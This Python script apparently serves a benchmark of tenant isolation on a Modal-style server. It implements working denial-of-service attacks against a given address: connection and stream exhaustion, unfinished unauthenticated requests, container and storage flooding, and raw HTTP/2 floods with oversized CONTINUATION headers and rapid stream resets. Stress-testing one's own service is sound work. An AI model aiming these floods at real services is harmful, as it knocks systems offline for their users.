#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What a greedy tenant does from outside, in a process of its own: its machine is another one, so
that its client's work costs the one who is measured nothing but what reaches the server.

    greedy_attacks.py NAME ADDRESS TENANT TOKEN SECRET SECONDS

Says "ready", begins when a line comes, and prints what it was told as one line of JSON.
"""
import asyncio
import json
import os
import socket
import sys
import threading
import time

import grpclib.client
import hpack
import modal
import modal_proto.api_grpc
from modal_proto import api_pb2 as pb


class Tenant:
    def __init__(self, name, token, secret):
        self.name = name
        self.metadata = {"x-modal-token-id": token, "x-modal-token-secret": secret}
        self.client = modal.Client.from_credentials(token, secret)

    def function(self, name):
        return modal.Function.from_name(f"bench-{self.name}", name, client=self.client)


def told(call):
    """What the greedy one gets to hear."""
    try:
        return str(call())[:160]
    except Exception as error:  # noqa: BLE001 - whatever the client makes of it
        return f"{type(error).__name__}: {str(error)[:160]}"


def in_container(name):
    return lambda tenant: told(lambda: tenant.function(name).remote(SECONDS))


def burns(tenant):
    calls = [tenant.function("burn").spawn(SECONDS) for _ in range(12)]
    return told(lambda: [call.get(timeout=120) for call in calls] and "12 calls done")


def containers(tenant):
    calls = [tenant.function("keep").spawn(b"", SECONDS) for _ in range(300)]
    time.sleep(SECONDS)
    for call in calls:
        call.cancel()
    return "300 calls that sleep"


def queue_bytes(tenant):
    end, count = time.time() + SECONDS, 0
    while time.time() < end:
        try:
            tenant.function("keep").spawn(os.urandom(1_500_000), 1)
            count += 1
        except Exception as error:  # noqa: BLE001
            return f"{count}, then: {type(error).__name__}: {str(error)[:140]}"
    return f"{count} of 1.5 MB"


def unread_items(tenant):
    reader = tenant.function("items").remote_gen(SECONDS)
    next(reader)
    time.sleep(SECONDS)
    return "a reader that reads one item"


def shouts(tenant):
    calls = [tenant.function("shout").spawn(SECONDS) for _ in range(3)]
    return told(lambda: [call.get(timeout=120) for call in calls] and "3 calls that print")


def connections(tenant):
    held, said = [], "not refused"
    end = time.time() + SECONDS
    while time.time() < end and len(held) < 15_000:
        try:
            held.append(socket.create_connection(ADDRESS, 2))
        except OSError as error:
            said = str(error)
            break
    time.sleep(max(0, end - time.time()))
    for peer in held:
        peer.close()
    return f"{len(held)}, then: {said}"


def unfinished(tenant):
    """Messages that never end, of somebody without a token."""
    head = (b"POST /modal.client.ModalClient/FunctionMap HTTP/1.1\r\nHost: x\r\n"
            b"Content-Type: application/grpc\r\nContent-Length: 95000000\r\n\r\n")  # fmt: skip
    held, end = [], time.time() + SECONDS
    while time.time() < end and len(held) < 40:
        peer = socket.create_connection(ADDRESS, 2)
        peer.settimeout(1)
        try:
            peer.sendall(head + bytes(1 << 20))
        except OSError:
            pass
        held.append(peer)
    time.sleep(max(0, end - time.time()))
    for peer in held:
        peer.close()
    return f"{len(held)} unfinished requests"


def streams(tenant):
    """Waits of a call that does not end in this time, each an open stream; a wait that is refused
    at once is asked for again."""
    waited_for = tenant.function("keep").spawn(b"", 2 * SECONDS).object_id

    async def run():
        async with grpclib.client.Channel(*ADDRESS) as channel:
            stub = modal_proto.api_grpc.ModalClientStub(channel)
            refused, last = 0, "not refused"
            request = pb.FunctionGetOutputsRequest(function_call_id=waited_for, timeout=55)
            end = time.time() + SECONDS

            async def poll():
                nonlocal refused, last
                while (left := end - time.time()) > 0:
                    try:
                        await stub.FunctionGetOutputs(request, metadata=tenant.metadata,
                                                      timeout=left)  # fmt: skip
                    except asyncio.TimeoutError:
                        return
                    except Exception as error:  # noqa: BLE001
                        refused, last = refused + 1, f"{type(error).__name__}: {error}"[:120]

            await asyncio.gather(*[poll() for _ in range(1500)])
            return f"1500 waits, {refused} refused: {last}"

    return asyncio.run(run())


def volume_holes(tenant):
    tenant.function("holes").remote()
    volume = modal.Volume.from_name(f"bench-{tenant.name}", client=tenant.client)
    said = [""] * 4

    def copy(number):
        said[number] = told(lambda: volume.copy_files(["/hole"], f"/copy{number}"))

    threads = [threading.Thread(target=copy, args=(n,)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(SECONDS)
    return said[0] or "still copying"


def catalog(tenant):
    end, count = time.time() + SECONDS, 0
    while time.time() < end:
        try:
            modal.Secret.objects.create(f"s{count}", {"A": "x" * 60_000}, client=tenant.client)
            count += 1
        except Exception as error:  # noqa: BLE001
            return f"{count}, then: {type(error).__name__}: {str(error)[:140]}"
    return f"{count} secrets"


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
LARGEST_FRAME = 16_384


def frame(kind, flags, stream, payload=b""):
    return (len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
            + payload)  # fmt: skip


def head(stream, fields):
    """A request's head in as many frames as it takes; END_STREAM and END_HEADERS."""
    block = hpack.Encoder().encode(
        [(":method", "GET"), (":scheme", "http"), (":path", "/flood"), (":authority", "x"),
         *fields], huffman=False)  # fmt: skip
    pieces = [block[at:at + LARGEST_FRAME] for at in range(0, len(block), LARGEST_FRAME)]
    out = b""
    for number, piece in enumerate(pieces):
        flags = (4 if number == len(pieces) - 1 else 0) | (1 if number == 0 else 0)
        out += frame(HEADERS if number == 0 else CONTINUATION, flags, stream, piece)
    return out


def flood(requests):
    """Connections that send `requests(stream)` as fast as they are taken, and come again when they
    are thrown out."""
    def run(counts):
        while time.time() < end:
            try:
                with socket.create_connection(ADDRESS, 2) as peer:
                    counts[0] += 1
                    peer.settimeout(1)
                    peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
                    peer.setblocking(True)
                    for stream in range(1, 2**30, 2):
                        if time.time() > end:
                            break
                        peer.sendall(requests(stream))
                        counts[1] += 1
            except OSError:
                pass

    end = time.time() + SECONDS
    counts = [[0, 0] for _ in range(4)]
    threads = [threading.Thread(target=run, args=(count,), daemon=True) for count in counts]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(SECONDS + 5)
    return f"{sum(c[1] for c in counts)} requests on {sum(c[0] for c in counts)} connections"


def large_heads(tenant):
    fields = [(f"x-{number}", "v" * 4000) for number in range(15)]  # just below the limit
    rest = head(1, fields)
    return flood(lambda stream: rest.replace((1).to_bytes(4, "big"), stream.to_bytes(4, "big")))


def resets(tenant):
    cancel = (8).to_bytes(4, "big")
    block = head(1, [])[9:]

    def some(first):
        return b"".join(frame(HEADERS, 5, stream, block) + frame(RST_STREAM, 0, stream, cancel)
                        for stream in range(first * 64 - 63, first * 64 + 65, 2))  # fmt: skip

    return flood(some)


def connects(tenant):
    end, count = time.time() + SECONDS, 0
    while time.time() < end:
        try:
            socket.create_connection(ADDRESS, 2).close()
            count += 1
        except OSError:
            pass
    return f"{count} connections, closed at once"


ATTACKS = {
    "processor time": burns, "containers": containers, "queue bytes": queue_bytes,
    "unread items": unread_items, "log space": shouts, "connections": connections,
    "unfinished messages": unfinished, "large heads": large_heads, "resets": resets,
    "connects": connects, "streams": streams, "volume threads": volume_holes,
    "catalog": catalog, "descriptors": in_container("descriptors"),
    "processes": in_container("processes"), "inotify": in_container("inotify"),
    "conntrack": in_container("flows"), "disk": in_container("fill"),
}  # fmt: skip


def main():
    print("ready", flush=True)
    sys.stdin.readline()
    print(json.dumps(told(lambda: ATTACKS[sys.argv[1]](Tenant(*sys.argv[3:6])))), flush=True)


if __name__ == "__main__":
    HOST, PORT = sys.argv[2].split(":")
    ADDRESS = (HOST, int(PORT))
    SECONDS = float(sys.argv[6])
    main()
    os._exit(0)  # calls that nobody waits for are not waited for
